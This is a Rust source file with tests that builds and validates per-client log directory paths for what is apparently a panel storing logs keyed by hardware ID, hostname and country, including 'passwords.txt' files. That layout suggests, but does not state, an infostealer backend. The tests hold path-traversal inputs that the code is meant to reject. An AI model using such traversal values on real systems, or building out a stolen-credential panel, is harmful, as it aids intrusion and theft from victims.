// src/paths.rs

use crate::error::{PanelError, Result};
use crate::models::Entry;
use std::path::{Component, Path, PathBuf};

/// `<dir of db>/logs`
fn logs_root(db_path: &Path) -> PathBuf {
    db_path.parent().unwrap_or_else(|| Path::new("")).join("logs")
}

/// Log directory for an entry:
/// `<dir of db>/logs/<hwid>/<country_code>-(<hostname>)-(<date>)-(<timezone>)`.
///
/// The ingestion side writes to the same location, so the format must not change.
pub fn resolve_log_dir(entry: &Entry, db_path: &Path) -> PathBuf {
    logs_root(db_path).join(&entry.hwid).join(leaf_name(entry))
}

fn leaf_name(entry: &Entry) -> String {
    format!(
        "{}-({})-({})-({})",
        entry.country_code, entry.hostname, entry.date, entry.timezone
    )
}

/// Same as [`resolve_log_dir`], but rejects database values that would
/// escape `<db_dir>/logs`.
pub fn checked_log_dir(entry: &Entry, db_path: &Path) -> Result<PathBuf> {
    check_segment(&entry.hwid)?;
    check_segment(&leaf_name(entry))?;
    Ok(resolve_log_dir(entry, db_path))
}

/// `<dir of db>/logs/<hwid>`, the folder holding every log dir of one client.
pub fn hwid_dir(hwid: &str, db_path: &Path) -> Result<PathBuf> {
    check_segment(hwid)?;
    Ok(logs_root(db_path).join(hwid))
}

fn check_segment(segment: &str) -> Result<()> {
    let unsafe_segment = segment.is_empty()
        || segment == "."
        || segment == ".."
        || segment.contains(['/', '\\', '\0']);
    if unsafe_segment {
        return Err(PanelError::UnsafePath(segment.to_string()));
    }
    Ok(())
}

/// Directory holding a stored `filepath`, or `None` unless that directory lies
/// strictly below `<db_dir>/logs`. Relative values are taken from the db directory.
pub fn cleanup_dir(filepath: &str, db_path: &Path) -> Option<PathBuf> {
    let root = logs_root(db_path);
    let file = db_path.parent().unwrap_or_else(|| Path::new("")).join(filepath);
    if file.components().any(|c| c == Component::ParentDir) {
        return None;
    }
    let parent = file.parent()?;
    if parent == root || !parent.starts_with(&root) {
        return None;
    }
    Some(parent.to_path_buf())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::entry;

    #[test]
    fn builds_expected_layout() {
        let e = entry(1, "A");
        let path = resolve_log_dir(&e, Path::new("/srv/panel/clients.db"));
        assert_eq!(
            path,
            PathBuf::from("/srv/panel/logs/A/US-(h1)-(2024-01-01)-(UTC)")
        );
    }

    #[test]
    fn bare_db_file_name_gives_relative_path() {
        let e = entry(1, "A");
        let path = resolve_log_dir(&e, Path::new("clients.db"));
        assert_eq!(path, PathBuf::from("logs/A/US-(h1)-(2024-01-01)-(UTC)"));
    }

    #[test]
    fn resolution_is_deterministic() {
        let e = entry(7, "hw-7");
        let db = Path::new("/data/panel.db");
        assert_eq!(resolve_log_dir(&e, db), resolve_log_dir(&e, db));
    }

    #[test]
    fn checked_rejects_traversal_in_hwid() {
        let e = entry(1, "..");
        let err = checked_log_dir(&e, Path::new("/srv/panel.db")).unwrap_err();
        assert!(matches!(err, PanelError::UnsafePath(s) if s == ".."));
    }

    #[test]
    fn checked_rejects_separators_in_fields() {
        let mut e = entry(1, "A");
        e.hostname = "evil/../../etc".to_string();
        assert!(checked_log_dir(&e, Path::new("/srv/panel.db")).is_err());

        let mut e = entry(1, "A");
        e.timezone = "a\\b".to_string();
        assert!(checked_log_dir(&e, Path::new("/srv/panel.db")).is_err());
    }

    #[test]
    fn checked_accepts_regular_entry() {
        let e = entry(1, "A");
        let db = Path::new("/srv/panel.db");
        assert_eq!(checked_log_dir(&e, db).unwrap(), resolve_log_dir(&e, db));
    }

    #[test]
    fn cleanup_dir_is_parent_of_filepath() {
        let db = Path::new("/srv/panel.db");
        assert_eq!(
            cleanup_dir("/srv/logs/A/US-(h1)/passwords.txt", db),
            Some(PathBuf::from("/srv/logs/A/US-(h1)"))
        );
    }

    #[test]
    fn relative_filepath_is_taken_from_db_dir() {
        let db = Path::new("/srv/panel.db");
        assert_eq!(
            cleanup_dir("logs/A/US-(h1)/passwords.txt", db),
            Some(PathBuf::from("/srv/logs/A/US-(h1)"))
        );
    }

    #[test]
    fn cleanup_dir_refuses_anything_outside_logs() {
        let db = Path::new("/srv/panel.db");
        assert_eq!(cleanup_dir("/passwords.txt", db), None);
        assert_eq!(cleanup_dir("/home/x.txt", db), None);
        assert_eq!(cleanup_dir("/srv/x.txt", db), None);
        assert_eq!(cleanup_dir("/srv/logs/x.txt", db), None);
        assert_eq!(cleanup_dir("/srv/logs/A/../../etc/x.txt", db), None);
        assert_eq!(cleanup_dir("passwords.txt", db), None);
        assert_eq!(cleanup_dir("", db), None);
    }

    #[test]
    fn hwid_dir_is_checked() {
        let db = Path::new("/srv/panel.db");
        assert_eq!(hwid_dir("A", db).unwrap(), PathBuf::from("/srv/logs/A"));
        assert!(matches!(hwid_dir("..", db), Err(PanelError::UnsafePath(_))));
        assert!(hwid_dir("a/b", db).is_err());
    }
}
